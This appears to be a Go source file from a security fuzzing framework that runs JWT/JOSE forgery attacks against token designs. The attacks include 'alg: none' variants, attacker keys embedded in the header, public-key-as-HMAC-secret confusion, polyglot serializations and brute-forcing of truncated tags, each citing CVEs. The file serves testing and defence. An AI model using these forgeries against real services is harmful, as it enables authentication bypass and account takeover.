// Package jose holds the attacks on signed tokens with a JOSE header (RFC 7515), and the key pairs
// that workers of such tokens derive from a secret.
package jose

import (
	"bytes"
	"encoding/base64"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"maps"
	"slices"
	"strings"

	"sealab/codecs"
	"sealab/fuzz/attack"
	"sealab/fuzz/attack/tokenfmt"
	"sealab/internal/verdict"
)

// Attacks are the attacks on the headers of signed tokens in JSON (RFC 7515).
var Attacks = []attack.Attack{
	{ID: "JOS-01", Name: "a JOSE header without an algorithm, and no tag", Refutes: integrityProperties, Layer: attack.LayerText, CWE: 347, Gain: attack.GainForgery,
		Origin: "CVE-2015-9235, CVE-2022-23540, CVE-2026-28802; RFC 8725, section 3.1", Run: onSigned(noAlgorithm)},
	{ID: "JOS-02", Name: "a JOSE header with the public key of the attacker", Refutes: integrityProperties, Layer: attack.LayerText, CWE: 347, Gain: attack.GainForgery,
		Origin: "CVE-2018-0114, CVE-2026-27962; RFC 8725, section 3.10", Run: onSigned(ownPublicKey)},
	{ID: "JOS-03", Name: "JOSE JSON serializations with missing members", Refutes: []codecs.Property{codecs.Integrity, codecs.Total}, Layer: attack.LayerText, CWE: 476,
		Gain: "a crash of the server", Origin: "CVE-2024-21664; RFC 7515, section 7.2", Run: onSigned(serializationsWithout)},
	{ID: "JOS-04", Name: "a text that is valid as compact and as JSON serialization", Refutes: integrityProperties, Layer: attack.LayerText, CWE: 436, Gain: attack.GainForgery,
		Origin: "CVE-2022-39227", Run: onSigned(polyglot)},
	{ID: "JOS-05", Name: "an algorithm with a short tag", Refutes: integrityProperties, Layer: attack.LayerText, CWE: 757, Gain: attack.GainForgery,
		Origin: "truncated tags by the name of the algorithm: RFC 9053, section 3.1", Run: onSigned(shortAlgorithms)},
	{ID: "JOS-06", Name: "a JOSE header that publishes the private key", Layer: attack.LayerText, CWE: 522, Gain: attack.GainForgery,
		Refutes: integrityProperties, Origin: "a key pair that is exported whole; RFC 7517, section 9.2", Run: onSigned(publishedPrivateKey)},
}

var integrityProperties = []codecs.Property{codecs.Integrity}

// A signedToken is a token of three segments, the first of which is a JSON header.
type signedToken struct {
	in     *attack.Instance
	tok    *attack.Token
	header map[string]any
	// algorithm is the one that the header names.
	algorithm string
	// payloads are a payload with another state, and the token's own.
	payloads [][]byte
}

// onSigned returns run as the Run function of an attack on signed tokens.
func onSigned(run func(*attack.T, signedToken)) func(*attack.T) {
	return func(t *attack.T) {
		if s, ok := signed(t); ok {
			run(t, s)
		}
	}
}

// signed mints a token of three segments with a JSON header. If the design's tokens differ, it
// records the reason and reports false.
func signed(t *attack.T) (signedToken, bool) {
	in, tok, ok := t.Base()
	if !ok {
		return signedToken{}, false
	}
	parts := bytes.Split(tok.Text, []byte("."))
	s := signedToken{in: in, tok: tok}
	if len(parts) == 3 {
		header, err := base64.RawURLEncoding.DecodeString(string(parts[0]))
		payload, err2 := base64.RawURLEncoding.DecodeString(string(parts[1]))
		s.algorithm = algorithmOf(header)
		if err == nil && err2 == nil && json.Unmarshal(header, &s.header) == nil && s.algorithm != "" {
			letters := attack.LettersOf(tok.State)
			s.payloads = [][]byte{bytes.ReplaceAll(payload, letters, bytes.ToUpper(letters)), payload}
			return s, true
		}
	}
	t.Skip("the token is not a header, a payload and a tag in base64 (RFC 7515)")
	return s, false
}

// with returns the authenticated text, with members of the header changed. A nil value removes
// the member.
func (s signedToken) with(payload []byte, members map[string]any) string {
	header := maps.Clone(s.header)
	for name, v := range members {
		header[name] = v
		if v == nil {
			delete(header, name)
		}
	}
	text, err := json.Marshal(header)
	if err != nil {
		panic("jose: " + err.Error()) // a decoded header can be encoded
	}
	return tokenfmt.Base64URL.Encode(text) + "." + tokenfmt.Base64URL.Encode(payload)
}

// change presents an authenticated text with a tag.
func (s signedToken) change(t *attack.T, text string, tag []byte, how string) {
	t.Change(s.in, s.tok, tagged(text, tag), how)
}

// tagged returns the token of an authenticated text and a tag.
func tagged(text string, tag []byte) []byte {
	return []byte(text + "." + tokenfmt.Base64URL.Encode(tag))
}

func noAlgorithm(t *attack.T, s signedToken) {
	for _, payload := range s.payloads {
		for _, algorithm := range []any{"none", "None", "NONE", "nOnE", "none ", "", nil} {
			for _, members := range []map[string]any{{"alg": algorithm}, {"alg": algorithm, "kid": nil}, {"alg": algorithm, "kid": "unknown"}} {
				text := s.with(payload, members)
				for _, tag := range []string{".", ".AA", ""} {
					t.Change(s.in, s.tok, []byte(text+tag), fmt.Sprintf("the algorithm %#v and the tag %q", algorithm, tag))
				}
			}
		}
	}
}

// shortAlgorithms names the token's algorithm, or HS256, with a short tag, as COSE and many
// protocols do ("HMAC 256/64", RFC 9053). It guesses one-byte tags. It guesses two-byte tags if
// a refusal shows that the server knows the name.
func shortAlgorithms(t *attack.T, s signedToken) {
	payload := s.payloads[0]
	ask := func(algorithm string, tag []byte) verdict.Answer {
		return s.in.Unseal(tagged(s.with(payload, map[string]any{"alg": algorithm}), tag), s.tok.Under).Answer
	}
	for _, base := range slices.Compact([]string{s.algorithm, "HS256"}) {
		for _, separator := range []string{"/", "-", "_", ""} {
			for _, size := range []int{1, 2} {
				name := fmt.Sprintf("%s%s%d", base, separator, 8*size)
				tries := 256
				if size == 2 {
					known, unknown := ask(name, make([]byte, size)), ask(base+separator+"unknown", make([]byte, size))
					if tries = min(1<<16, t.Budget.Unseals); known.Stage == unknown.Stage && known.Reason == unknown.Reason && known.Outcome == unknown.Outcome {
						continue
					}
				}
				guessTag(t, s, s.with(payload, map[string]any{"alg": name}), name, size, tries)
			}
		}
	}
}

// guessTag presents an authenticated text with tags of size bytes, in ascending order.
func guessTag(t *attack.T, s signedToken, text, algorithm string, size, tries int) {
	const atOnce = 1 << 10
	for from := 0; from < tries && !t.Fell(codecs.Integrity) && !t.Spent(); from += atOnce {
		t.Changes(s.in, s.tok, func(yield func(tokenfmt.Alteration)) {
			for k := from; k < min(from+atOnce, tries); k++ {
				tag := binary.BigEndian.AppendUint16(nil, uint16(k))[2-size:]
				yield(tokenfmt.Alteration{Text: tagged(text, tag), How: fmt.Sprintf("the algorithm %q and a tag of %d bytes, try %d", algorithm, size, k+1)})
			}
		})
	}
}

// PublicAsSecret is the attack by a public key as an HMAC secret.
var PublicAsSecret = onSigned(publicAsSecret)

// publicAsSecret computes HMAC tags under the server's public key, in each encoding that a
// server may hold it in.
func publicAsSecret(t *attack.T, s signedToken) {
	pair, ok := pairOf(s.algorithm, s.in.Keys[0])
	at := bytes.LastIndexByte(s.tok.Text, '.')
	tag, err := base64.RawURLEncoding.DecodeString(string(s.tok.Text[at+1:]))
	if !ok || err != nil || !pair.verify(s.tok.Text[:at], tag) {
		if pair, ok = publicIn(s.header); !ok {
			t.Skip("the token is not signed with a key pair of this secret, and holds no public key")
			return
		}
	}
	for _, key := range pair.texts() {
		for _, payload := range s.payloads {
			text := s.with(payload, map[string]any{"alg": "HS256"})
			s.change(t, text, tokenfmt.HMACSHA256.Sum([]byte(key), []byte(text)), fmt.Sprintf("HS256 under the public key %.40q", key))
		}
	}
}

// ownPublicKey signs with the attacker's key pair and puts the public key into the header.
func ownPublicKey(t *attack.T, s signedToken) {
	for _, payload := range s.payloads {
		for _, kid := range []any{s.header["kid"], nil, "unknown"} {
			for _, algorithm := range []string{"ES256", "EdDSA"} {
				pair, ok := pairOf(algorithm, t.Bytes(32))
				if !ok {
					t.Skip("no key pair")
					return
				}
				text := s.with(payload, map[string]any{"alg": algorithm, "jwk": json.RawMessage(pair.jwks[0]), "kid": kid})
				s.change(t, text, pair.sign([]byte(text)), algorithm+" under a public key in the header")
			}
			key := t.Bytes(32)
			text := s.with(payload, map[string]any{"alg": "HS256", "jwk": map[string]any{"kty": "oct", "k": tokenfmt.Base64URL.Encode(key)}, "kid": kid})
			s.change(t, text, tokenfmt.HMACSHA256.Sum(key, []byte(text)), "HS256 under a key in the header")
		}
	}
}

// publishedPrivateKey signs with the private key that the header holds.
func publishedPrivateKey(t *attack.T, s signedToken) {
	sign, ok := privateIn(s.header)
	if !ok {
		t.Skip("the header holds no private key")
		return
	}
	head, _, _ := strings.Cut(string(s.tok.Text), ".")
	for _, payload := range s.payloads {
		text := head + "." + tokenfmt.Base64URL.Encode(payload)
		s.change(t, text, sign([]byte(text)), "signed with the private key in the header")
	}
}

// serializationsWithout presents the flattened and the general JSON serialization, with each
// member missing, null or of another type.
func serializationsWithout(t *attack.T, s signedToken) {
	parts := strings.Split(string(s.tok.Text), ".")
	whole := map[string]any{"payload": parts[1], "protected": parts[0], "signature": parts[2]}
	forms := []map[string]any{{}, {"payload": parts[1], "signatures": []any{}}, {"payload": parts[1], "signatures": []any{nil}}}
	for name := range whole {
		for _, v := range []any{nil, "", 1, []any{}, map[string]any{}} {
			form := maps.Clone(whole)
			form[name] = v
			without := maps.Clone(whole)
			delete(without, name)
			forms = append(forms, form, without)
			delete(without, "payload")
			forms = append(forms, map[string]any{"payload": parts[1], "signatures": []any{without}}, map[string]any{"payload": parts[1], "signatures": []any{without, without}})
		}
	}
	for _, form := range forms {
		text, err := json.Marshal(form)
		if err != nil {
			panic("jose: " + err.Error()) // maps of texts can be encoded
		}
		t.Try(codecs.Total)
		t.Change(s.in, s.tok, text, "a JSON serialization with members left out")
	}
}

// polyglot presents a JSON serialization of the token, in which the first member name is a
// compact token with another payload. A reader that splits at dots and one that parses JSON
// then disagree.
func polyglot(t *attack.T, s signedToken) {
	parts := strings.Split(string(s.tok.Text), ".")
	other := tokenfmt.Base64URL.Encode(s.payloads[0])
	for _, name := range []string{"  " + parts[0] + "." + other + ".", parts[0] + "." + other + ".", "  " + parts[0] + "." + other + "." + parts[2]} {
		for _, form := range []string{
			`{"%s":"","protected":"%s","payload":"%s","signature":"%s"}`, `{"%s":"", "protected":"%s", "payload":"%s","signature":"%s"}`,
		} {
			t.Change(s.in, s.tok, fmt.Appendf(nil, form, name, parts[0], parts[1], parts[2]), "a JSON serialization that is a compact one of another payload as well")
		}
	}
}
